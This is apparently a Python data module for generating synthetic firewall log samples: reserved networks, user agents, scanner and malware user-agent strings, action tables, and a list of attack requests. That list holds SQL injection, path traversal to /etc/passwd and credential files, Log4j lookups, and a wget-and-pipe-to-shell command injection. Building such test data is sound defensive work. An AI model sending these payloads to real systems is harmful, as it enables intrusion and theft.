"""What the samples are drawn from. Addresses, networks and host names are those set aside for
documentation: RFC 5737, RFC 3849, RFC 5398, RFC 2606 and RFC 6761."""

# (AS number, its description, countries, address prefixes)
NETWORKS = [
  (64496, "EXAMPLE-TRANSIT", ["us", "ca"], ["192.0.2."]),
  (64497, "EXAMPLE-CABLE", ["us"], ["192.0.2.", "2001:db8:97::"]),
  (64498, "EXAMPLE-MOBILE", ["in", "bd"], ["198.51.100.", "2001:db8:98:1::"]),
  (64499, "EXAMPLE-HOSTING", ["nl", "de", "fr"], ["203.0.113."]),
  (64500, "EXAMPLE-NET", ["us"], ["203.0.113."]),
  (64501, "EXAMPLE-DSL Beispielnetz Süd", ["de", "at", "ch"], ["198.51.100.", "2001:db8:1f::"]),
  (64503, "EXAMPLE-CLOUD Compute, Region \"West\"", ["ie", "gb", "sg"], ["203.0.113."]),
  (64505, "EXAMPLE-EDU", ["jp", "kr", "tw"], ["192.0.2.", "2001:db8:505::"]),
  (64508, "EXAMPLE-PRIVACY", ["T1"], ["198.51.100."]),
  (64510, "EXAMPLE-SAT", ["XX", "br", "xk"], ["2001:db8:a::"]),
  (64511, "EXAMPLE-IX", ["tr", "ci", "hk", "cz"], ["192.0.2."]),
]

ZONES = {
  "example.com": ["www.example.com", "shop.example.com", "api.example.com", "example.com"],
  "example.net": ["login.example.net", "cdn.eu.example.net", "example.net"],
  "example.org": ["wiki.example.org", "www.example.org"],
  "store.example": ["store.example", "img.store.example"],
}

USER_AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
  "Chrome/140.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
  "Version/18.5 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
  "Version/18.5 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) "
  "Chrome/140.0.0.0 Mobile Safari/537.36",
  "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://www.example.org/bot.html)",
  "curl/8.9.1",
  "okhttp/4.12.0",
]
SCANNERS = [
  "sqlmap/1.8.9#stable", "Mozilla/5.00 (Nikto/2.5.0)", "masscan/1.3", "Mozilla/5.0 zgrab/0.x",
  "python-requests/2.32.3", "Go-http-client/1.1", "WPScan v3.8.27", "",
]
COVENANT = (
  "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) "
  "Chrome/41.0.2228.0 Safari/537.36"
)
TREVOR = "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko"
LOKIBOT = "Mozilla/4.08 (Charon; Inferno)"

COLOS = "FRA AMS LHR CDG IAD SJC GRU NRT SIN BOM SYD JNB WAW ZRH".split()
METHODS = ["GET"] * 8 + ["POST"] * 3 + ["HEAD", "OPTIONS", "PUT"]
PROTOCOLS = ["HTTP/2"] * 5 + ["HTTP/3"] * 3 + ["HTTP/1.1"] * 3 + ["HTTP/1.0"]
PATHS = """
  / /index.html /products/17 /products/17/reviews /api/v2/orders /api/v2/session /login /search
  /assets/app.3f9c.js /assets/site.css /img/logo.svg /robots.txt /feed.xml /account/settings
  /checkout /static/favicon.ico /downloads/report.tar.gz
""".split()
QUERIES = [""] * 9 + ["?page=2", "?q=blue+shoes&sort=price", "?utm_source=mail&utm_medium=x", "?v=3"]

# Every spelling of every action, and a source and a status that such an event has.
ACTIONS = {
  "unknown": ("unknown", 200),
  "allow": ("ip", 200),
  "block": ("firewallmanaged", 403),
  "challenge": ("securitylevel", 403),
  "jschallenge js_challenge": ("country", 403),
  "log": ("firewallcustom", 200),
  "connectionclose connectionClose connection_close": ("l7ddos", 0),
  "forceConnectionClose force_connection_close": ("l7ddos", 0),
  "challengesolved challengeSolved challenge_solved": ("firewallcustom", 200),
  "challengefailed challenge_failed": ("firewallcustom", 403),
  "challengebypassed challengeBypassed challenge_bypassed": ("securitylevel", 200),
  "jschallengesolved jschallengeSolved jschallenge_solved": ("firewallcustom", 200),
  "jschallengefailed jschallenge_failed": ("botfight", 403),
  "jschallengebypassed jschallengeBypassed jschallenge_bypassed": ("botfight", 200),
  "bypass": ("firewallrules", 200),
  "skip": ("firewallcustom", 200),
  "managedchallenge managedChallenge managed_challenge": ("firewallcustom", 403),
  "managedchallengeskipped managed_challenge_skipped": ("botmanagement", 200),
  "managedchallengenoninteractivesolved managedChallengeNonInteractiveSolved "
  "managed_challenge_non_interactive_solved": ("firewallcustom", 200),
  "managedchallengeinteractivesolved managedChallengeInteractiveSolved "
  "managed_challenge_interactive_solved": ("firewallcustom", 200),
  "managedchallengebypassed managedChallengeBypassed managed_challenge_bypassed":
    ("botmanagement", 200),
  "precursorinterstitialpageissued": ("botmanagement", 403),
  "precursorinterstitialpagebypassed": ("botmanagement", 200),
  "precursorinterstitialpagesolved": ("botmanagement", 200),
  "drop": ("ratelimit", 403),
  "simulate": ("waf", 200),
  "rewrite": ("firewallmanaged", 200),
}

# Every source, and the description that its events carry.
SOURCES = {
  "unknown": "", "asn": "Hosting networks", "country": "", "ip": "Known scanner",
  "iprange": "Scanner range", "securitylevel": "", "zonelockdown": "Office only: /admin",
  "waf": "Classic rule set", "firewallrules": "Legacy firewall rule", "uablock": "Old crawlers",
  "ratelimit": "Login: 5 requests a minute", "bic": "", "hot": "",
  "l7ddos": "HTTP requests with unusual headers", "validation": "Malformed request",
  "botfight": "", "apishield": "Unknown endpoint", "botmanagement": "Definitely automated",
  "dlp": "Card numbers in answers", "firewallmanaged": "Path traversal in the URI",
  "firewallcustom": "Challenge outside of home countries",
  "apishieldschemavalidation": "POST /api/v2/orders: body is not as in the schema",
  "apishieldtokenvalidation": "Token missing or expired",
  "apishieldsequencemitigation": "Checkout before cart", "sanitycheck": "Header too large",
}

# (method, path, query, description)
ATTACKS = [
  ("GET", "/.env", "", "Information disclosure: dot files"),
  ("GET", "/api/.env", "", "Information disclosure: dot files"),
  ("GET", "/.git/config", "", "Information disclosure: dot files"),
  ("GET", "/.aws/credentials", "", "Information disclosure: dot files"),
  ("GET", "/static/../../../../etc/passwd", "", "Path traversal in the URI"),
  ("GET", "/download", "?file=..%2f..%2f..%2fetc%2fpasswd", "Path traversal in the query"),
  ("GET", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", "Path traversal in the URI"),
  ("GET", "/products", "?id=1'%20OR%20'1'='1'--%20", "SQL injection: tautology"),
  ("GET", "/products", "?id=1 UNION SELECT username,password FROM users--", "SQL injection: union"),
  ("POST", "/search", "?q=1;WAITFOR%20DELAY%20'0:0:5'--", "SQL injection: time based"),
  ("GET", "/", "?x=x{jndi:ldap://192.0.2.66:1389/a}", "Log4j: lookup in the query"),
  ("GET", "/x{x{lower:j}ndi:ldap://192.0.2.66/Basic}", "", "Log4j: obfuscated lookup"),
  ("GET", "/search", "?q=<script>alert(1)</script>", "Cross-site scripting in the query"),
  ("POST", "/xmlrpc.php", "", "WordPress: XML-RPC flood"),
  ("GET", "/wp-login.php", "", "WordPress: login probing"),
  ("GET", "/wp-content/plugins/../../wp-config.php.bak", "", "Backup files"),
  ("GET", "/index.php", "?s=/index/think/app/invokefunction&function=phpinfo", "PHP injection"),
  ("GET", "/actuator/env", "", "Spring: actuator endpoints"),
  ("GET", "/", "?cmd=;wget%20http://198.51.100.66/x.sh|sh", "Command injection"),
  ("PROPFIND", "/", "", "Unusual method"),
]
